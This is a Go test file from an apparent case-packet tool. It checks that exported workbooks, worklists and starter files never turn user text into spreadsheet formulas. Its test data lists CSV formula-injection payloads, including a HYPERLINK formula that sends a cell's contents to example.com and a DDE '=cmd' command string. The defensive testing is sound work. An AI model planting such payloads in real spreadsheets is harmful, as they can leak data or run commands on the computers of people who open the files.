package marked

import (
	"archive/zip"
	"bytes"
	"fmt"
	"html"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"casepacket/internal/ledger"
	"casepacket/internal/problem"
	"casepacket/internal/schema"
	"casepacket/internal/sheet"
	"casepacket/internal/sheet/input"
	"casepacket/internal/starter"
	"casepacket/internal/worklist"
	"casepacket/internal/xlsx"
)

// dangerous are texts that a spreadsheet program would take for formulas where
// it is given them to interpret.
var dangerous = []string{
	`=HYPERLINK("http://example.com/?"&A2,"x")`, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", "'=1+1", `"=1+1`,
}

// Nothing that stands in somebody's sheet, in a problem or in a setting becomes
// a formula in a workbook of ours.
func TestNothingBecomesAFormula(t *testing.T) {
	var source strings.Builder
	source.WriteString("case_id,first name,=1+1,@x\n")
	for _, text := range dangerous {
		fmt.Fprintf(&source, "%s,%[1]s,%[1]s,%[1]s\n", `"`+strings.ReplaceAll(text, `"`, `""`)+`"`)
	}
	small := markingOfDangers(t, source.String())
	large := markingOfDangers(t, source.String()+strings.Repeat("C"+strings.Repeat(",x", 3)+"\n", maxMarkedCells/4))
	for name, write := range map[string]func(io.Writer) error{
		"a marked copy":                  func(w io.Writer) error { return Write(w, small) },
		"a marked copy of affected rows": func(w io.Writer) error { return Write(w, large) },
		"a workbook of sheets": func(w io.Writer) error {
			return xlsx.Write(w, []xlsx.Sheet{{Name: "x", Types: []schema.Type{schema.TypeDate}, Rows: [][]string{dangerous, dangerous}}})
		},
		"the starter": func(w io.Writer) error {
			s := starter.Starter{Example: map[schema.Table]map[string]string{schema.Cases: {}}}
			for i, text := range dangerous {
				s.Settings = append(s.Settings, starter.StarterSetting{Name: text, Value: text, Meaning: text})
				s.Example[schema.Cases][schema.Fields()[i].Name] = text
			}
			return s.Write(w)
		},
		"a worklist": func(w io.Writer) error {
			var rows worklist.Rows
			for _, text := range dangerous {
				row := worklist.Row{
					CaseID: text, Name: text, To: text, Outcome: text, Missing: text, Changed: text, How: text, Wording: text, Next: text, File: "C-1/send/" + text,
					Entry: ledger.Entry{Own: map[string]string{text: text}},
				}
				for _, c := range worklist.Columns {
					*c.Of(&row.Entry) = text
				}
				rows.Add(row)
			}
			return worklist.WriteFile(w, &rows, schema.MonthFirst)
		},
	} {
		var content bytes.Buffer
		if err := write(&content); err != nil {
			t.Fatal(err)
		}
		found := 0
		for part, text := range partsOf(t, content.Bytes()) {
			if !strings.HasPrefix(part, "xl/worksheets/") {
				continue
			}
			rows, _, _ := strings.Cut(text, "</sheetData>")
			for _, formula := range regexp.MustCompile(`(?s)<f[ >/].{0,200}?(</f>|$)`).FindAllString(rows, -1) {
				if !ownLink.MatchString(html.UnescapeString(formula)) {
					t.Errorf("%s, %s: a formula: %s", name, part, formula)
				}
			}
			if link := regexp.MustCompile(`<hyperlink [^>]*r:id`).FindString(text); link != "" {
				t.Errorf("%s, %s: a link out of the workbook: %s", name, part, link)
			}
			found += strings.Count(rows, `t="s"`) + strings.Count(rows, `t="inlineStr"`)
		}
		if found < len(dangerous) {
			t.Errorf("%s holds %d texts", name, found)
		}
	}
}

// ownLink is the one formula that we write: a link to a file beside the list,
// with nothing behind the name of the file.
var ownLink = regexp.MustCompile(`^<f>HYPERLINK\("C-1/send/([^"]|"")*","open"\)</f>$`)

func markingOfDangers(t *testing.T, source string) Marking {
	t.Helper()
	path := filepath.Join(t.TempDir(), "=list.csv")
	if err := os.WriteFile(path, []byte(source), 0o600); err != nil {
		t.Fatal(err)
	}
	book, err := input.Open(path, nil, sheet.Options{})
	if err != nil {
		t.Fatal(err)
	}
	m := Marking{Book: book, ID: "r", Original: "=list.csv"}
	for i, row := range book.Tables[0].Rows[:len(dangerous)] {
		text := dangerous[i]
		where := problem.Where{File: "=list.csv", Cell: fmt.Sprintf("A%d", row.Number), Row: row.Number}
		m.Problems.Add(problem.Problem{Severity: problem.Error, Code: text, Where: where, CaseID: text, Message: text, Hint: text})
		m.IDs = append(m.IDs, GivenID{Where: where, Own: i%2 == 0, ID: text})
	}
	return m
}

func partsOf(t *testing.T, workbook []byte) map[string]string {
	t.Helper()
	reader, err := zip.NewReader(bytes.NewReader(workbook), int64(len(workbook)))
	if err != nil {
		t.Fatal(err)
	}
	parts := map[string]string{}
	for _, file := range reader.File {
		r, err := file.Open()
		if err != nil {
			t.Fatal(err)
		}
		content, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		parts[file.Name] = string(content)
	}
	return parts
}
